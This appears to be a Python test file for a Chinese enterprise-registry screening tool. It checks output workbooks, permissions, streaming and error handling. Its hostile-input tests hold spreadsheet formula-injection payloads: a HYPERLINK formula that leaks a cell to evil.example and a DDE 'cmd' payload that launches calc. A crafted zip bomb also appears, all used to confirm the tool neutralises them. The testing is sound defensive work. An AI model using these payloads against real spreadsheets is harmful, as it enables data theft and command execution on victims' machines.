"""The enterprise services (bytes in, typed view + result file out), the streaming path,
hostile cell values in every output, and outputs that fail cleanly."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys

import openpyxl
import pytest

from innodrive.enterprises.fields import FIELDS
from innodrive.errors import Forbidden
from innodrive.services.actor import Actor, Role
from innodrive.services.enterprises import explain_enterprise, screen_registry

from .ent_helpers import make_code
from .test_screening import GOOD, H, _rows

ON = dt.date(2024, 6, 30)
OP = Actor.local_operator("test")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
           "＝1+1"]
LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _csv_bytes(rows) -> bytes:
    names = list(dict.fromkeys(k for r in rows for k in r))
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow([H.get(n, n) for n in names])
    for r in rows:
        w.writerow([r.get(n, "") for n in names])
    return buf.getvalue().encode("utf-8")


def test_screen_registry_service_returns_a_view_and_the_workbook():
    out = screen_registry(None, OP, _csv_bytes(_rows()), name="登记表.csv", on=ON)
    v = out.view
    assert (v.total_rows, v.evaluated_rows, v.bad_rows) == (9, 2, 7)
    tech = next(c for c in v.counts if c.programme == "tech_sme")
    assert (tech.passed, tech.failed) == (1, 1)
    assert [r.name for r in v.rows] == ["甲科技有限公司", "乙公司"]
    assert {p.row for p in v.problems} == {3, 4, 5, 6, 7, 8, 9}
    wb = openpyxl.load_workbook(io.BytesIO(out.workbook), read_only=True)
    assert {"筛选结果", "汇总", "数据问题", "规则版本"} <= set(wb.sheetnames)
    assert out.filename == "登记表.筛选结果.xlsx"
    csv_out = screen_registry(None, OP, _csv_bytes(_rows()), name="登记表.csv", on=ON, output="csv")
    lines = csv_out.workbook.decode("utf-8-sig").splitlines()
    assert len(lines) == 3 and lines[0].startswith("行号,统一社会信用代码")


def test_services_check_rights():
    unit = Actor(username="u", role=Role.UNIT, unit="市经信局", via="web")
    with pytest.raises(Forbidden):
        screen_registry(None, unit, _csv_bytes(_rows()), name="r.csv", on=ON)
    with pytest.raises(Forbidden):
        explain_enterprise(None, unit, _csv_bytes(_rows()), name="r.csv", credit_code=make_code(1), on=ON)


def test_explain_enterprise_service():
    ex = explain_enterprise(None, OP, _csv_bytes(_rows()), name="r.csv", credit_code=make_code(8), on=ON)
    assert ex.name == "乙公司" and ex.row == 10
    tech = next(v for v in ex.verdicts if v.programme == "tech_sme")
    assert tech.state == "fail" and any(g.field == "rd_expense_y1" for g in tech.gaps)
    assert ex.incentives


def test_unconfirmed_versions_say_so_in_the_verdict_workbook_and_screen(tmp_path):
    on = dt.date(2026, 6, 30)
    out = screen_registry(None, OP, _csv_bytes([GOOD]), name="r.csv", on=on)
    assert any("专精特新" in n and "规则待核实" in n for n in out.view.notices)
    wb = openpyxl.load_workbook(io.BytesIO(out.workbook), read_only=True)
    header, first = list(wb["筛选结果"].iter_rows(min_row=1, max_row=2, values_only=True))
    col = header.index("专精特新中小企业认定（2026年新办法）｜结论")
    assert first[col].endswith("（规则待核实）")
    assert header.index("科技型中小企业评价｜结论") and "待核实" not in first[header.index("科技型中小企业评价｜结论")]
    summary = [r for r in wb["汇总"].iter_rows(values_only=True)]
    assert any(r[0] and "规则待核实" in str(r[0]) for r in summary)
    reg = tmp_path / "r.csv"
    reg.write_bytes(_csv_bytes([GOOD]))
    r = _cli("enterprises", "check", str(reg), "--on", "2026-06-30", "--out", str(tmp_path / "o.xlsx"))
    assert r.returncode == 0, r.stderr
    assert "规则待核实" in r.stderr and "待核实（仅见转载）" in r.stdout
    r = _cli("enterprises", "check", str(reg), "--on", "2026-06-30", "--code", GOOD["credit_code"])
    assert "符合（规则待核实）" in r.stdout or "不符合（规则待核实）" in r.stdout or "规则待核实" in r.stdout


def _cli(*args):
    r = subprocess.run([sys.executable, "-m", "innodrive", *args], capture_output=True, text=True,
                       env={**os.environ, "COLUMNS": "200"})
    r.stdout, r.stderr = "".join(r.stdout.split()), "".join(r.stderr.split())
    return r


def _hostile_rows():
    rows = []
    for i, bad in enumerate(HOSTILE):
        rows.append(dict(GOOD, credit_code=make_code(100 + i), name=bad, region=bad, industry=bad))
    rows.append(dict(GOOD, credit_code=make_code(200), name="=BAD()", revenue_y1="=1+1"))  # a bad row
    return rows


def _no_formula(values):
    for v in values:
        if isinstance(v, str):
            assert not v.startswith(LEADS), v


def test_hostile_text_is_never_a_formula_in_any_output(tmp_path):
    rows = _hostile_rows()
    data = _csv_bytes(rows)
    # a hostile header, and a hostile file name in the 数据问题 sheet
    data = data.replace("企业名称".encode(), "企业名称".encode(), 1)
    text = data.decode("utf-8").splitlines()
    text[0] = text[0] + ',"=cmd|\' /C calc\'!A0"'
    text[1:] = [line + ",x" for line in text[1:]]
    data = ("\n".join(text) + "\n").encode("utf-8")
    name = "=HYPERLINK(1).csv"
    x = screen_registry(None, OP, data, name=name, on=ON)
    wb = openpyxl.load_workbook(io.BytesIO(x.workbook))  # not read-only: formulas would show as data_type "f"
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    _no_formula([cell.value])
                    seen += "HYPERLINK" in cell.value
    assert seen >= 2  # the value is kept, as text
    c = screen_registry(None, OP, data, name=name, on=ON, output="csv")
    for rec in csv.reader(io.StringIO(c.workbook.decode("utf-8-sig"))):
        _no_formula(rec)
    # the CLI's companion problems CSV and the template
    reg = tmp_path / "r.csv"
    reg.write_bytes(data)
    r = subprocess.run([sys.executable, "-m", "innodrive", "enterprises", "check", str(reg), "--on", "2024-06-30",
                        "--out", str(tmp_path / "o.csv")], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    for f in (tmp_path / "o.csv", tmp_path / "o.数据问题.csv"):
        for rec in csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig"))):
            _no_formula(rec)


def test_outputs_fail_cleanly_on_a_read_only_folder(tmp_path):
    if os.geteuid() == 0:
        # root ignores folder permissions: use a path whose folder is a file instead
        target_dir = tmp_path / "not-a-folder"
        target_dir.write_text("x")
    else:
        target_dir = tmp_path / "ro"
        target_dir.mkdir()
        target_dir.chmod(0o500)
    reg = tmp_path / "r.csv"
    reg.write_bytes(_csv_bytes([GOOD]))
    for args in (("enterprises", "check", str(reg), "--on", "2024-06-30", "--out", str(target_dir / "o.xlsx")),
                 ("enterprises", "template", "--out", str(target_dir / "t.xlsx"))):
        r = subprocess.run([sys.executable, "-m", "innodrive", *args], capture_output=True, text=True)
        assert r.returncode == 2, (args, r.stderr)
        flat = "".join(r.stderr.split())
        assert "Traceback" not in flat and "无法" in flat
    assert not list(tmp_path.glob("**/o.xlsx")) and not list(tmp_path.glob("**/t.xlsx"))
    assert not list(tmp_path.glob("**/.o.xlsx.*")) and not list(tmp_path.glob("**/.t.xlsx.*"))


def test_full_disk_leaves_no_file(tmp_path):
    full = "/dev/full"
    if not os.path.exists(full):
        pytest.skip("no /dev/full")
    from innodrive.errors import InputError
    from innodrive.safeio import atomic_write

    with pytest.raises(InputError):
        atomic_write(tmp_path / "o.xlsx", lambda f: (_ for _ in ()).throw(OSError(28, "No space left on device")))
    assert list(tmp_path.iterdir()) == []


def test_xlsx_bomb_is_refused():
    """A small zip whose parts declare gigabytes once inflated is refused by the shared
    table reader before anything is inflated."""
    import struct
    import zipfile

    from innodrive.errors import InputError
    from innodrive.services.enterprises import screen_registry as svc

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<x/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", "<row/>" * 1000)
    data = bytearray(buf.getvalue())
    at = data.rfind(b"PK\x01\x02")  # the last central-directory entry: the sheet
    data[at + 24:at + 28] = struct.pack("<I", 0xFFFFFFF0)  # declares ~4 GB uncompressed
    with pytest.raises(InputError, match="压缩炸弹"):
        svc(None, OP, bytes(data), name="bomb.xlsx", on=ON)


def test_streaming_matches_the_whole_file_path():
    """Chunked screening gives the same table as screening the whole registry at once
    (duplicates across chunks are still found)."""
    from innodrive.enterprises.registry import read_registry_bytes
    from innodrive.enterprises.screening import screen
    from innodrive.enterprises.stream import screen_stream

    rows = _rows() * 1  # 9 rows, a duplicate of row 2 at row 8
    data = _csv_bytes(rows)
    whole = screen(read_registry_bytes(data, name="r.csv", today=dt.date(2024, 7, 1)), on=ON)
    buf = io.BytesIO()
    view = screen_stream(data, name="r.csv", on=ON, out=buf, fmt="csv", chunk_rows=2, today=dt.date(2024, 7, 1))
    got = list(csv.reader(io.StringIO(buf.getvalue().decode("utf-8-sig"))))
    assert got[0] == list(whole.table.columns)
    assert [r[1] for r in got[1:]] == whole.table["统一社会信用代码"].tolist()
    col = got[0].index("科技型中小企业评价｜培育建议")
    assert [r[col] for r in got[1:]] == whole.table["科技型中小企业评价｜培育建议"].tolist()
    assert any("与第 2 行重复" in p.message for p in view.problems)
    assert FIELDS["credit_code"].header == "统一社会信用代码"


@pytest.mark.parametrize("output", ["csv", "xlsx"])
def test_an_unknown_region_is_an_empty_cell_not_the_word_nan(output):
    """A registry that gives 所属地区 for some enterprises only: the others' cells stay
    empty in the result file and on the page (pandas keeps a missing text as NaN)."""
    rows = [GOOD, dict(GOOD, credit_code=make_code(8), name="乙公司", region=""),
            dict(GOOD, credit_code=make_code(9), name="丙公司", region="")]
    out = screen_registry(None, OP, _csv_bytes(rows), name="登记表.csv", on=ON, output=output)
    assert [r.region for r in out.view.rows] == ["翠屏区", None, None]
    if output == "csv":
        table = list(csv.reader(io.StringIO(out.workbook.decode("utf-8-sig"))))
        regions = [r[table[0].index("所属地区")] for r in table[1:]]
        assert "nan" not in out.workbook.decode("utf-8-sig")
    else:
        ws = openpyxl.load_workbook(io.BytesIO(out.workbook), read_only=True)["筛选结果"]
        table = [list(r) for r in ws.iter_rows(values_only=True)]
        regions = [r[table[0].index("所属地区")] or "" for r in table[1:]]
    assert regions == ["翠屏区", "", ""]
